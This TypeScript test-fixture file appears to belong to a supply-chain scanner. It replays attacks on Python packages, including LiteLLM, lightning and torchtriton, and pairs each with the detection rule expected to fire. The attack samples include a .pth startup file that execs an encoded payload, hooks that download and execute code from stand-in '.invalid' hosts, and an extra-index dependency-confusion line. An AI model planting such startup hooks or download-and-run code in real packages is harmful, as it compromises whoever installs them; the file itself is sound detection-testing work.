// Attacks through packages of Python.
import { lines, type Replay } from './replay.ts';

const encoded = Buffer.from('print("inert")\n'.repeat(40)).toString('base64');

/** A uv.lock with one package of PyPI. */
const uvLock = (name: string, version: string, uploaded: string): string =>
  lines(
    'version = 1',
    'revision = 3',
    'requires-python = ">=3.12"',
    '',
    '[[package]]',
    `name = "${name}"`,
    `version = "${version}"`,
    'source = { registry = "https://pypi.org/simple" }',
    'wheels = [',
    `    { url = "https://files.pythonhosted.org/packages/aa/bb/${'c'.repeat(60)}/${name}-${version}-py3-none-any.whl", hash = "sha256:${Buffer.from(version.padEnd(32, '.')).toString('hex')}", size = 10, upload-time = "${uploaded}" },`,
    ']',
  );

export const PYTHON: readonly Replay[] = [
  {
    name: 'LiteLLM, March 2026: a release hours old',
    base: { 'uv.lock': uvLock('litellm', '1.82.6', '2026-06-01T10:00:00Z') },
    attack: { 'uv.lock': uvLock('litellm', '1.82.8', '2026-06-15T10:52:00Z') },
    because: ['MEDIUM PACKAGE-YOUNG'],
    twin: { 'uv.lock': uvLock('litellm', '1.82.8', '2026-06-05T10:52:00Z') },
  },
  {
    name: 'LiteLLM, March 2026: the start-up file that it brought',
    base: { 'pyproject.toml': '[project]\nname = "x"\nversion = "1"\n' },
    attack: {
      'litellm_init.pth': `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${encoded}'))"])\n`,
    },
    because: ['CRITICAL HOOK-PYTHON-STARTUP-CODE'],
    twin: { 'folders.pth': '../lib\n/opt/packages\n' },
  },
  {
    name: 'LiteLLM 1.107.0, October 2026: a release hours old, again',
    base: { 'uv.lock': uvLock('litellm', '1.106.4', '2026-06-01T10:00:00Z') },
    attack: { 'uv.lock': uvLock('litellm', '1.107.0', '2026-06-15T11:39:51Z') },
    because: ['MEDIUM PACKAGE-YOUNG'],
    twin: { 'uv.lock': uvLock('litellm', '1.107.0', '2026-06-05T11:39:51Z') },
  },
  {
    name: 'LiteLLM 1.107.0, October 2026: an entry point that Python calls when it starts',
    base: { 'litellm/__init__.py': 'from .main import completion\n' },
    attack: {
      'litellm.start': 'litellm._hook:run\n',
      'litellm/_hook.py': lines(
        'import urllib.request',
        'def run():',
        '    exec(urllib.request.urlopen("https://models.example.invalid/start").read())',
      ),
    },
    because: ['MEDIUM HOOK-PYTHON-STARTUP', 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
    twin: {
      'litellm/_hook.py': lines('def run():', '    print("ready")'),
    },
  },
  {
    name: 'lightning 2.6.2, April 2026: an import that starts a runtime of its own',
    base: { 'lightning/__init__.py': 'from .core import fit\n' },
    attack: {
      'lightning/__init__.py': lines(
        'import os, subprocess, sys, urllib.request',
        'def _start():',
        '    target = os.path.join(os.path.dirname(__file__), "_runtime", "bun")',
        '    urllib.request.urlretrieve("https://runtime.example.invalid/bun", target)',
        '    os.chmod(target, 0o755)',
        '    subprocess.Popen([target, "router_runtime.js"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)',
        '_start()',
        'from .core import fit',
      ),
    },
    because: ['CRITICAL CODE-DOWNLOAD-RUN'],
    twin: { 'lightning/__init__.py': 'from .core import fit, evaluate\n' },
  },
  {
    name: 'ComfyUI_LLMVISION, June 2024: wheels of somebody else under names that are known',
    base: { 'requirements.txt': 'openai==1.30.1\n' },
    attack: {
      'requirements.txt':
        'https://github.com/someone/wheels/releases/download/v1/openai-1.30.2-py3-none-any.whl\n',
    },
    because: ['MEDIUM PACKAGE-ARCHIVE-SOURCE'],
    twin: { 'requirements.txt': 'openai==1.30.2\n' },
  },
  {
    name: 'torchtriton, December 2022: a second index that answers for a private name',
    base: { 'requirements.txt': 'torch==2.0.0\n' },
    attack: {
      'requirements.txt': '--extra-index-url https://nightly.example.invalid/simple\ntorch==2.0.0\n',
    },
    because: ['MEDIUM PACKAGE-EXTRA-INDEX'],
    twin: {
      'requirements.txt': '--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.0.0\n',
    },
  },
];
